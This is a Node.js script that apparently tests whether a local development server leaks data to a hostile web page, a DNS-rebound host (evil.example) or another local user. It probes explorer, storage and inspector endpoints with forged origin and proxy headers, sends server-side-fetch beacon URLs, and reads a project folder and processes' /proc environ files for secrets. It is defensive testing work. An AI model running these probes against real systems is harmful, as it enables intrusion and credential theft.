// What a page of elsewhere and another user of this machine can try with a local run: they know the code, the
// ports and the names of files, and no secret. Prints all that it got, as JSON. It imports nothing, since
// another user may not be able to read this project.
//
// Usage: node intruder.js '{"ports":[…],"pids":[…],"folder":"…","beacon":"http://…","signed":{…}}'

import { readdirSync, readFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";

const { ports, pids, folder, beacon, signed } = JSON.parse(process.argv[2]);
const got = [];

/** A page whose name leads to this machine. */
const REBOUND = {
  host: "evil.example",
  origin: "http://evil.example",
  "sec-fetch-site": "same-origin",
};

/** The headers of a request: of a program, of a page of elsewhere, of another local site, of a rebound name. */
const SENDERS = [
  {},
  { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
  { origin: "http://localhost:3000", "sec-fetch-site": "same-site" },
  REBOUND,
  { ...REBOUND, "mf-original-url": "http://localhost/.vitrine/tag" },
  { ...REBOUND, "mf-original-url": "http://localhost/images/card/photos/fig.jpg" },
  { "mf-original-url": `${beacon}/original`, "mf-route-override": "vitrine" },
  { "mf-custom-fetch-service": "core:user", "mf-op": "GET", "mf-op-target": "0" },
];

const EXPLORERS = ["/cdn-cgi/explorer", "/cdn-cgi/local/explorer"];
const KEYS = ["photos/fig.jpg", "published/photos/fig.jpg"];
const PATHS = [
  ...EXPLORERS.flatMap((path) => [
    path,
    `${path}/api`,
    `${path}/api/local/workers`,
    `${path}/api/r2/buckets`,
    `${path}/api/storage/r2/buckets/acme-media/objects`,
  ]),
  ...KEYS.flatMap((key) => [
    `/cdn-cgi/local/r2/public/acme-media/${key}`,
    `/cdn-cgi/local/r2/s3/acme-media/${key}`,
  ]),
  ...["/cdn-cgi/local/r2/public/", "/cdn-cgi/local/r2/s3/", "/cdn-cgi/local/platform-proxy"],
  ...["/cdn-cgi/mf/reload", "/cdn-cgi/local/scheduled", "/cdn-cgi/ProxyWorker/play"],
  ...["/core/error", "/core/log", "/core/public", "/__cf_local/imagedelivery/a"],
  ...["/json", "/json/list", "/json/version", "/", "/.vitrine/tag", "/.vitrine/sheet.js"],
  ...[`/.vitrine/calls?of=${beacon}/calls`, `/.vitrine/try?of=${beacon}/try&format=png`],
  "/.vitrine/try?of=/images/card/photos/fig.jpg",
  `/images/card/${beacon}/key`,
];
const SQL = JSON.stringify({ sql: "SELECT json(attributes), * FROM spans", url: `${beacon}/body` });
const PICTURE = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
const JSON_TYPE = { "content-type": "application/json" };
const POSTS = [
  ...EXPLORERS.flatMap((path) => [
    `${path}/api/local/observability/query`,
    `${path}/api/local/workers/vitrine/fetch`,
  ]),
  ...["/", "/core/store-temp-file", "/core/error", "/.vitrine/objects/evil.jpg"],
];

await Promise.all(
  ports.map(async (port) => {
    for (const headers of SENDERS) {
      for (const path of PATHS) await ask(port, "GET", path, headers);
      for (const path of POSTS) await ask(port, "POST", path, { ...headers, ...JSON_TYPE }, SQL);
    }
    await ask(port, "PUT", "/.vitrine/objects/evil.jpg", SENDERS[1], SQL);
    const asPage = { origin: `http://127.0.0.1:${port}` };
    for (const name of ["%00", "a".repeat(1_020), "a".repeat(1_022)]) {
      await ask(port, "PUT", `/.vitrine/objects/${name}`, asPage, PICTURE);
    }
    for (const [path, headers] of Object.entries(signed)) await ask(port, "GET", path, headers);
    for (const path of ["/", "/ws", "/core:user:vitrine", "/core:user:local-s3", "/user"]) {
      await connect(port, path);
    }
  }),
);
readBelow(folder);
for (const pid of pids) {
  for (const name of ["cmdline", "environ"]) read(`/proc/${pid}/${name}`);
}
process.stdout.write(JSON.stringify(got));

function ask(port, method, path, headers, body) {
  return new Promise((settle) => {
    const options = { host: "127.0.0.1", port, method, path, headers };
    const asking = request(options, (answer) => {
      const chunks = [];
      answer.on("data", (chunk) => chunks.push(chunk));
      answer.on("error", settle);
      answer.on("end", () => {
        const label = `${answer.statusCode} ${port} ${method} ${path} ${JSON.stringify(headers)}`;
        keep(label, Buffer.concat(chunks));
        settle();
      });
    });
    asking.setTimeout(20_000, () => asking.destroy());
    asking.on("error", settle);
    asking.end(body);
  });
}

/** Opens a WebSocket as a page of elsewhere would. An inspector answers with all that there is. */
function connect(port, path) {
  return new Promise((settle) => {
    const headers = { origin: "https://evil.example" };
    const socket = new WebSocket(`ws://127.0.0.1:${port}${path}`, { headers });
    socket.onopen = () => {
      keep(`WebSocket ${port} ${path}`, Buffer.from("an open WebSocket"));
      socket.close();
    };
    socket.onerror = settle;
    socket.onclose = settle;
  });
}

function readBelow(path) {
  for (const entry of list(path)) {
    const file = join(path, entry.name);
    if (entry.isDirectory()) readBelow(file);
    else if (entry.isFile()) read(file);
  }
}

function list(path) {
  try {
    return readdirSync(path, { withFileTypes: true });
  } catch {
    return []; // not for this user
  }
}

function read(file) {
  try {
    keep(file, readFileSync(file));
  } catch {
    // not for this user
  }
}

function keep(label, bytes) {
  got.push([label, bytes.toString("base64")]);
}
